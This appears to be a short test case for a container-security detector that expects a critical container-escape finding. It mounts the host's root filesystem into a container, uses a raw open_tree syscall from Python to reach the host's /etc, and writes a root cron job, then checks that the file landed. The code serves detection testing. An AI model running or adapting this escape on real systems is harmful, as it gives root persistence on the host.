# about: the host's tree is cloned as a descriptor, never attached, and a cron job written below it
# expect: container_escape critical
# where: container
# needs: docker
container -v /:/host $RIGHTS -- \
    python3 -c 'import ctypes,os
libc=ctypes.CDLL(None,use_errno=True)
fd=libc.syscall(428,-100,b"/host/etc",0x8000|1)
print(fd,ctypes.get_errno()); d=os.open("cron.d",os.O_RDONLY|os.O_DIRECTORY,dir_fd=fd)
f=os.open("cleanup",os.O_WRONLY|os.O_CREAT,0o644,dir_fd=d); os.write(f,b"* * * * * root id\n")'
grep -q root /etc/cron.d/cleanup
